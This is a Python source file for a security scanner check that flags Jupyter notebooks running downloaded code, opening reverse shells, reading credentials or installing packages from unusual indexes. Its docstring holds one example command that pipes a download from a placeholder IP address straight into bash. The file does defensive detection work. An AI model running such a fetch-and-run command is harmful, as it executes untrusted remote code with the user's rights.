"""Notebooks whose code does what only an attacker's does, or deserves a reader.

## What it looks for

The Python of all code cells, followed as one program, and the lines given to a shell (`!`, `%system`,
`%%bash`, `get_ipython().system`): downloads that are run, hidden code, stolen credentials, packages from
uncommon indexes. Code in cells that are hidden weighs more.

## Why it matters

Notebooks are run cell by cell with the rights of their user, often where training data and cloud credentials
are at hand.

## Example

    !curl -s http://203.0.113.5/setup | bash

## Fix

Do not run the notebook before the named cell was read.
"""

from __future__ import annotations

import re
from typing import TYPE_CHECKING

from violet.checks.artifact._python_acts import HOSTILE, findings
from violet.checks.base import Context, check
from violet.domain import Outcome, Rule, Severity

if TYPE_CHECKING:
    from collections.abc import Iterable

    from violet.formats.notebook.cells import NotebookFacts

RULE = Rule(
    id="artifact/notebook-code",
    title="Notebook holds hostile or risky code",
    severity=Severity.HIGH,
    fix="Do not run the notebook before the named cell was read.",
    techniques=("AML.T0011.000", "AML.T0050"),
    cwe=(506, 78, 94),
)
TOLD = (*HOSTILE, "import-hidden", "load-hidden", "load-download", "pickle-gadget", "bidirectional", "send-host",
        "exfiltration-address", "read-credentials", "remote-code")  # fmt: skip


@check(RULE, formats=("notebook",))
def judge(context: Context) -> Iterable[Outcome]:
    from violet.formats.notebook.cells import NotebookFacts

    facts = context.facts(NotebookFacts)
    if facts is None:
        return
    for cell, act in facts.acts:
        where = f"hidden cell {cell}" if cell in facts.hidden else f"cell {cell}"
        yield from findings(context, [act], TOLD, where=where)
    for line, command in facts.hostile:
        yield context.finding(
            f"Cell {line.cell} gives a shell a command that {command.meaning}.",
            evidence=command.text,
            key=f"{command.kind}:{command.text[:120]}",
            line=line.line,
            severity=_severity(command.kind, command.text),
        )
    yield from _installs(context, facts)


def _severity(kind: str, text: str) -> Severity:
    if kind in ("reverse-shell", "steal"):
        return Severity.CRITICAL
    host = text.partition("https://")[2][:1]
    if kind == "download-run" and host and not host.isdigit():
        return Severity.MEDIUM
    return Severity.MEDIUM if kind in ("hide", "privilege") else Severity.HIGH


def _installs(context: Context, facts: NotebookFacts) -> Iterable[Outcome]:
    for line in facts.shell:
        if not re.search(r"\b(?:pip3?|conda|mamba|uv)\b[^\n]*\binstall\b", line.text):
            continue
        index = re.search(r"(?:--(?:extra-)?index-url|-i|--find-links|-f)[ =](\S+)", line.text)
        direct = re.search(r"\b(?:git\+)?(https?://\S+)", line.text)
        address = index.group(1) if index else (direct.group(1) if direct else "")
        if not address:
            continue
        insecure = address.startswith("http://")
        known = re.search(
            r"//(?:[\w.-]+\.)?(?:pypi\.org|pytorch\.org|github\.com|huggingface\.co|nvidia\.com)/", address
        )
        severity = Severity.HIGH if insecure else Severity.LOW if known else Severity.MEDIUM
        yield context.finding(
            f"Cell {line.cell} installs a package from elsewhere than the usual index.",
            evidence=re.sub(r"//[^/@\s]+@", "//***@", line.text)[:200],
            key=f"install:{address[:120]}",
            line=line.line,
            severity=severity,
        )
